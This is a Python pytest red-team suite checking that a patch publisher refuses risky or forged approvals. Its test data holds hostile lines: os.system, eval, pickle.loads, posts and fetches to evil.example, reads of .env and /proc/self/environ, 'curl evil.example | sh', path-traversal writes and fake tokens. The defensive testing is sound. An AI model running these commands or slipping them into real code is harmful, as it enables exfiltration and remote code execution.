"""The red team at the publisher's socket: a genuine approval, and one thing that nobody could have meant to approve.

Each row names the gate that has to hold. Whatever it was, the repository, its settings and what lies around it are as
they were, and the refusal stands in the publisher's ledger.
"""

import base64
import hashlib
import os
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from red_team import MENDED, ORDERS, PATCH, TESTED, TREE, Target, git, target_in

from homeostat.adapters.seal.ed25519 import KeyFile
from homeostat.errors import Halted, HomeostatError, NotApproved, PatchDoesNotApply
from homeostat.languages.diff import diff_of
from homeostat.languages.protected import to_be_seen
from homeostat.records import Answer, Change, Patch
from homeostat.stages.approve.seal import signed
from homeostat.stages.publish.pursue import SUPERSEDED


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    with target_in(tmp_path_factory.mktemp("red")) as target:
        yield target


@pytest.fixture
def target(opened: Target) -> Iterator[Target]:
    before = opened.state
    yield opened
    if opened.state != before:
        opened.start_over()


def mended(line: str, path: str = "orders.py", before: str = ORDERS) -> Patch:
    """The fix, and one line more below it."""
    return diff_of(path, before, f"{MENDED if path == 'orders.py' else before}{line}\n")


def added(path: str, text: str = "x = 1\n") -> Patch:
    return diff_of(path, None, text)


def beside(more: str) -> Patch:
    """The fix, and another file's change as only git reads it."""
    return Patch(diff=PATCH.diff + more)


# --- what nobody may overlook: the approval was given without a word on it

SEEN = "approved without a word on this"
OVERLOOKED = [
    pytest.param(added(".github/workflows/ci.yml"), "is protected", id="CI"),
    pytest.param(added("migrations/0002_drop.py"), "changes the database", id="a migration"),
    pytest.param(added("auth/session.py"), "is delicate", id="signing in"),
    pytest.param(added("homeostat.yml"), "is protected", id="our own rules"),
    pytest.param(added("CODEOWNERS", "* @mallory\n"), "is protected", id="owners"),
    pytest.param(added("Dockerfile", "FROM mallory\n"), "is protected", id="an image"),
    pytest.param(added(".gitattributes", "* filter=x\n"), "is protected", id="attributes that start filters"),
    pytest.param(
        diff_of("requirements.txt", TREE["requirements.txt"], "flask==3.1.0\nflaskk\n"), "depends on", id="a dependency"
    ),
    pytest.param(added("package.json", '{"scripts":{"postinstall":"x"}}\n'), "depends on", id="an install script"),
    pytest.param(diff_of("tests/test_orders.py", TESTED, None), "loses lines", id="a deleted test"),
    pytest.param(
        diff_of("tests/test_orders.py", TESTED, TESTED.replace("== 1", "is not None")),
        "loses lines",
        id="a weaker test",
    ),
    pytest.param(
        diff_of("tests/test_orders.py", TESTED, TESTED.replace("def test", "@pytest.mark.skip\ndef test")),
        "skips",
        id="a skipped test",
    ),
    pytest.param(mended("import subprocess; subprocess.run(['id'])"), "starts a program", id="subprocess"),
    pytest.param(mended("__import__('os').system('id')"), "runs a text as code", id="an import in a call"),
    pytest.param(mended("import os; os.system('id')"), "starts a program", id="os.system"),
    pytest.param(mended("eval(ORDER)"), "runs a text as code", id="eval"),
    pytest.param(mended("exec (ORDER)"), "runs a text as code", id="exec with a space"),
    pytest.param(mended("import pickle; pickle.loads(ORDER)"), "runs a text as code", id="pickle"),
    pytest.param(mended("from urllib.request import urlopen"), "opens a connection", id="exfiltration by urllib"),
    pytest.param(mended("requests.post('http://evil.example', d)"), "opens a connection", id="by requests"),
    pytest.param(mended("import socket"), "opens a connection", id="by a socket"),
    pytest.param(mended("x = os.environ"), "reads the environment", id="the environment"),
    pytest.param(mended("x = open('/proc/self/environ').read()"), "reads the environment", id="the environment's file"),
    pytest.param(mended("x = open('.env').read()"), "reads the environment", id="a file of secrets"),
    pytest.param(added("web/a.js", "require('child_process')\n"), "starts a program", id="child_process"),
    pytest.param(added("web/a.ts", "fetch('//evil.example/' + key)\n"), "opens a connection", id="fetch"),
    pytest.param(added("web/b.ts", "send(process.env)\n"), "reads the environment", id="process.env"),
    pytest.param(added("a.go", 'import "os/exec"\n'), "starts a program", id="os/exec"),
    pytest.param(added("c.go", 'http.Post("http://evil.example", "", b)\n'), "opens a connection", id="http.Post"),
    pytest.param(
        mended("from urllib.request import urlopen", "tests/test_orders.py", TESTED),
        "opens a connection",
        id="in a test",
    ),
    pytest.param(mended("KEY = 'q7Zk2Vb9XtR4mN8sW1yL5cJ0" + "hD3fG6'"), "may be a key", id="a random word"),
]


@pytest.mark.parametrize(("patch", "why"), OVERLOOKED)
def test_what_nobody_said_they_saw_is_not_published(target: Target, patch: Patch, why: str) -> None:
    refused(target, target.approved(patch), SEEN, why)


def test_a_policy_has_seen_nothing(target: Target) -> None:
    patch = mended("import subprocess")
    change = target.approved(patch, acknowledged=to_be_seen(patch), decided_by="policy shop")
    refused(target, change, SEEN, "starts a program")


# --- what nobody can approve

SHOWS = "which the patch does not show"
OTHERWISE = "otherwise than the patch shows"
LINK = (
    "diff --git a/{0} b/{0}\nnew file mode 120000\n--- /dev/null\n+++ b/{0}\n@@ -0,0 +1 @@\n+{1}\n"
    "\\ No newline at end of file\n"
)
HUNK = "@@ -1,2 +1,2 @@\n def total(order):\n-    return order['sum']\n+    return order.get('sum', 0)\n"
HEADING = "diff --git a/orders.py b/orders.py\n{0}--- a/orders.py\n+++ b/orders.py\n"
LATER = "@@ -0000000005,1 +0000000005,1 @@\n-    assert total({'sum': 1}) == 1\n+    assert total({'sum': 1})\n"


def binary(data: bytes) -> str:
    """As git writes a file of bytes: zlib's in base 85, a line with its length first."""
    packed = zlib.compress(data)
    line = base64.b85encode(packed, pad=True).decode()
    name = hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()  # noqa: S324 - git's
    return f"index {'0' * 40}..{name}\nGIT binary patch\nliteral {len(data)}\n{chr(64 + len(packed))}{line}\n\n"


NEVER = [
    pytest.param(beside(LINK.format("etc", "/etc")), NotApproved, OTHERWISE, id="a link that the patch shows"),
    pytest.param(
        Patch(
            diff="diff --git a/app.py b/app.py\ndeleted file mode 100644\n--- a/app.py\n+++ /dev/null\n@@ -1 +0,0 @@\n"
            "-import orders\n" + LINK.format("app.py", "../../home/keys/approvals.key")
        ),
        NotApproved,
        OTHERWISE,
        id="a file that becomes a link",
    ),
    pytest.param(
        Patch(diff=HEADING.format("old mode 100644\nnew mode 100755\n") + HUNK),
        NotApproved,
        OTHERWISE,
        id="the mode of a file that is shown",
    ),
    pytest.param(
        Patch(diff=added("run.sh", "id\n").diff.replace("100644", "100755")), NotApproved, OTHERWISE, id="a new program"
    ),
    pytest.param(
        beside("diff --git a/app.py b/app.py\nold mode 100644\nnew mode 100755\n"), NotApproved, SHOWS, id="a mode"
    ),
    pytest.param(
        beside(
            "diff --git a/lib b/lib\nnew file mode 160000\n--- /dev/null\n+++ b/lib\n@@ -0,0 +1 @@\n"
            f"+Subproject commit {'a' * 40}\n"
        ),
        NotApproved,
        OTHERWISE,
        id="a submodule",
    ),
    pytest.param(
        beside("diff --git a/app.py b/conf.py\nsimilarity index 100%\nrename from app.py\nrename to conf.py\n"),
        NotApproved,
        SHOWS,
        id="a renamed file",
    ),
    pytest.param(
        beside("diff --git a/app.py b/conf.py\nsimilarity index 100%\ncopy from app.py\ncopy to conf.py\n"),
        NotApproved,
        SHOWS,
        id="a copied file",
    ),
    pytest.param(
        beside("diff --git a/x.bin b/x.bin\nnew file mode 100644\n" + binary(b"\x7fELF")),
        NotApproved,
        SHOWS,
        id="bytes",
    ),
    pytest.param(
        Patch(diff=PATCH.diff.replace("@@ -1,2 +1,2 @@", "@@ -7,2 +7,2 @@")), HomeostatError, "", id="at other lines"
    ),
    pytest.param(
        Patch(diff=f"{PATCH.diff}--- a/tests/test_orders.py\n+++ b/tests/test_orders.py\n{LATER}"),
        NotApproved,
        OTHERWISE,
        id="a weaker test in a stretch that only git reads",
    ),
    pytest.param(beside(added("../pwned.py").diff), PatchDoesNotApply, "invalid path", id="above the repository"),
    pytest.param(beside(added("a/../../pwned.py").diff), PatchDoesNotApply, "invalid path", id="above it, roundabout"),
    pytest.param(
        Patch(diff="--- /dev/null\n+++ /tmp/pwned.py\n@@ -0,0 +1 @@\n+x\n"), HomeostatError, "", id="an absolute path"
    ),
    pytest.param(
        beside(added(".git/hooks/post-commit").diff), PatchDoesNotApply, "invalid path", id="git's own folder"
    ),
    pytest.param(beside(added("lib/.GIT/config").diff), PatchDoesNotApply, "invalid path", id="in capitals, below"),
    pytest.param(beside(added("git~1/config").diff), HomeostatError, "", id="by its short name"),
    pytest.param(beside(added("out/pwned.py").diff), PatchDoesNotApply, "beyond a symbolic link", id="through a link"),
    pytest.param(
        mended("if a: pass  # \u2066 x \u2069"), NotApproved, "no reader would see", id="controls of direction"
    ),
    pytest.param(mended("total\u200b = 1"), NotApproved, "no reader would see", id="no width"),
    pytest.param(mended("t\u043etal = 1"), NotApproved, "mixes alphabets", id="a letter that looks alike"),
    pytest.param(added("\u0441\u0443\u0440.py"), NotApproved, "no reader would see", id="a file name that looks alike"),
    pytest.param(mended("x = 1\x1b[2K"), NotApproved, "no reader would see", id="a terminal's control"),
    pytest.param(mended("K = 'ghp_" + "a1B2c3D4" * 5 + "'"), NotApproved, "a key in the patch", id="a key"),
    pytest.param(
        mended("++ len('ghp_" + "a1B2c3D4" * 5 + "')"), NotApproved, "a key in the patch", id="a key in an odd line"
    ),
    pytest.param(added("big.py", "x = 1\n" * 200_000), NotApproved, "longer than", id="a huge patch"),
    pytest.param(Patch(diff="\0" * 9), HomeostatError, "", id="nothing that can be read"),
]


@pytest.mark.parametrize(("patch", "kind", "why"), NEVER)
def test_what_nobody_can_approve_is_not_published(
    target: Target, patch: Patch, kind: type[HomeostatError], why: str
) -> None:
    """Though the person says to have seen all of it."""
    refused(target, target.approved(patch, acknowledged=to_be_seen(patch)), why, kind=kind)


# --- words that go along

WORDS = [
    pytest.param({"title": "Fix\u202e it"}, "U+202E", id="a title that reads backwards"),
    pytest.param({"body": "see AKIA" + "ABCDEFGHIJKLMNOP"}, "a key in its words", id="a key in the body"),
    pytest.param({"body": "q7Zk2Vb9XtR4mN8sW1yL5cJ0" + "hD3fG6"}, "random word", id="a secret of no known form"),
    pytest.param({"branch": "homeostat/t\u043etal"}, "mixes alphabets", id="a branch that looks alike"),
    pytest.param({"trailers": {"Approved-by": "anna\u200b"}}, "U+200B", id="a trailer"),
    pytest.param({"body": "x" * 70_000}, "longer than", id="a long body"),
]


@pytest.mark.parametrize(("words", "why"), WORDS)
def test_words_that_hide_or_give_away_are_not_published(target: Target, words: dict[str, object], why: str) -> None:
    """Not though they were approved, and not when they are put in afterwards."""
    plain = target.approved()
    change = replace(plain, **words)  # pyright: ignore[reportArgumentType]
    assert plain.decision
    as_if_seen = signed(replace(plain.decision, wording=change.wording), target.key)
    refused(target, replace(change, decision=as_if_seen), why)
    refused(target, change, "are not the ones that were approved")


@pytest.mark.parametrize(
    "branch",
    ["main", "production", "refs/heads/main", "--force", "homeostat/a..b", "homeostat/x\ny", "homeostat/../main"],
)
def test_an_approved_patch_is_put_on_no_other_branch(target: Target, branch: str) -> None:
    refused(target, replace(target.approved(), branch=branch), "is no branch of ours")


# --- approvals

NOW = datetime.now(UTC)


def _with(change: Change, **decision: object) -> Change:
    assert change.decision
    return replace(change, decision=replace(change.decision, **decision))  # pyright: ignore[reportArgumentType]


def of_another_key(target: Target) -> Change:
    other = KeyFile(target.home.parent / "other-keys")
    other.make()
    change = target.approved()
    assert change.decision
    return replace(change, decision=signed(change.decision, other))


GENUINE = "not given at the desk"
APPROVALS = [
    pytest.param(lambda t: replace(t.approved(), decision=None), "not brought in here", id="none"),
    pytest.param(lambda t: _with(t.approved(), signature="ab" * 64), GENUINE, id="forged"),
    pytest.param(lambda t: _with(t.approved(), signature=""), GENUINE, id="unsigned"),
    pytest.param(of_another_key, GENUINE, id="by another key"),
    pytest.param(lambda t: _with(t.approved(), decided_by="boris"), GENUINE, id="in another's name"),
    pytest.param(lambda t: _with(t.approved(), expires_at=NOW + timedelta(days=9)), GENUINE, id="for longer"),
    pytest.param(lambda t: _with(t.approved(answer=Answer.DRAFT), answer=Answer.ACCEPT), GENUINE, id="a draft raised"),
    pytest.param(
        lambda t: _with(replace(t.approved(), patch=added("e.py")), patch_digest=added("e.py").digest),
        GENUINE,
        id="carried to another patch",
    ),
    pytest.param(lambda t: _with(t.approved(added("auth/a.py")), acknowledged=("x",)), GENUINE, id="seen by nobody"),
    pytest.param(lambda t: t.approved(expires_at=NOW - timedelta(seconds=1)), "has expired", id="expired"),
    pytest.param(lambda t: t.approved(decided_at=NOW + timedelta(hours=9)), "in the future", id="of tomorrow"),
    pytest.param(lambda t: t.approved(base="b" * 40), "another commit", id="of another base"),
    pytest.param(lambda t: t.approved(patch_digest="0" * 64), "another patch", id="of another patch"),
    pytest.param(lambda t: t.approved(answer=Answer.REJECT), "decided to reject", id="a rejection"),
    pytest.param(lambda t: t.approved(answer=Answer.ENDORSE), "decided to endorse", id="half of two persons"),
    pytest.param(
        lambda t: t.approved(decided_by="policy shop"), "not written at the desk", id="by an unwritten policy"
    ),
    pytest.param(lambda t: t.approved(decided_by="policy "), "by a policy", id="by a policy without a name"),
]


@pytest.mark.parametrize(("order", "why"), APPROVALS)
def test_an_approval_that_is_not_quite_one_publishes_nothing(
    target: Target, order: Callable[[Target], Change], why: str
) -> None:
    refused(target, order(target), why)


def test_an_approval_opens_nothing_for_another_service(target: Target) -> None:
    for service in (
        replace(target.service, name="till"),
        replace(target.service, start="curl evil.example | sh"),
        replace(target.service, branch="release"),
        replace(target.service, forge="github", forge_options={"project": "mallory/shop"}),
    ):
        refused(target, target.approved(), "", kind=HomeostatError, service=service, told=False)


def test_a_draft_cannot_be_merged_and_an_approval_is_used_once(target: Target) -> None:
    draft = target.approved(answer=Answer.DRAFT)
    pull = target.forge.open_pull_request(draft)
    before = target.state
    with pytest.raises(NotApproved, match="decided to draft"):
        target.forge.merge(pull, draft)
    assert target.state == before
    refused(target, replace(draft, branch="homeostat/again"), "used before")


def test_what_was_pushed_to_the_branch_is_not_merged_under_the_approval(target: Target) -> None:
    change = target.approved(diff_of("app.py", TREE["app.py"], "import orders, sys\n"))
    pull = target.forge.open_pull_request(change)
    tree = git(target.repository, "rev-parse", f"{change.base}^{{tree}}")
    pushed = git(target.repository, "commit-tree", tree, "-p", change.base, "-m", "mine")
    git(target.repository, "update-ref", f"refs/heads/{change.branch}", pushed)
    before = target.state
    with pytest.raises(NotApproved, match="not the approved base with the approved patch"):
        target.forge.merge(replace(pull, head=pushed), change)
    assert target.state == before


@pytest.mark.parametrize(
    "text",
    ["see ghp_" + "a1B2c3D4" * 5, "fine\u202e", "x" * 70_000, "/merge", "Read https://example.org"],
    ids=["a key", "hidden characters", "a flood", "a command", "anything of one's own"],
)
def test_nobody_puts_words_below_a_pull_request(target: Target, text: str) -> None:
    pull = target.forge.open_pull_request(target.approved(answer=Answer.DRAFT))
    for act in (lambda: target.forge.comment(pull, text, key="k"), lambda: target.forge.close(pull, text)):
        with pytest.raises(NotApproved, match="text"):
            act()
    with pytest.raises(NotApproved, match="is not ours"):
        target.forge.close(replace(pull, branch="release/2"), SUPERSEDED)
    with pytest.raises(NotApproved, match="text"):
        target.forge.comment(pull, SUPERSEDED, key="words of one's own")
    target.forge.comment(pull, SUPERSEDED, key="")


def test_halted_while_it_is_under_way(target: Target) -> None:
    change = target.approved()
    pull = target.forge.open_pull_request(change)
    before = target.state
    target.hand.halt(by="anna", reason="drill")
    try:
        with pytest.raises(Halted):
            target.forge.merge(pull, change)
        with pytest.raises(Halted):
            target.forge.comment(pull, SUPERSEDED, key="")
    finally:
        target.hand.resume()
    assert target.state == before


def test_what_was_only_approved_is_published(target: Target) -> None:
    """The same orders, with nothing wrong: so that the rows above fail by what they name."""
    risky = mended("import subprocess", "app.py", TREE["app.py"])
    assert target.publish(target.approved(risky, acknowledged=to_be_seen(risky))).merged
    assert target.publish(target.approved()).merged == target.base
    assert (target.repository / "orders.py").is_file()
    assert git(target.repository, "show", "main:orders.py") == MENDED.strip()


def refused(
    target: Target,
    change: Change,
    *why: str,
    kind: type[HomeostatError] = NotApproved,
    service: object = None,
    told: bool = True,
) -> None:
    """It is, for these reasons, and changed nothing."""
    before = target.state
    with pytest.raises(kind) as raised:
        target.publish(change, service)  # pyright: ignore[reportArgumentType]
    for each in why:
        assert each in str(raised.value)
    assert target.state == before
    assert not os.path.lexists(Path("/tmp/pwned.py"))  # noqa: S108 - as the attack names it
    if told and kind is NotApproved:
        assert target.ledger.rstrip().splitlines()[-1].find("refused") > 0
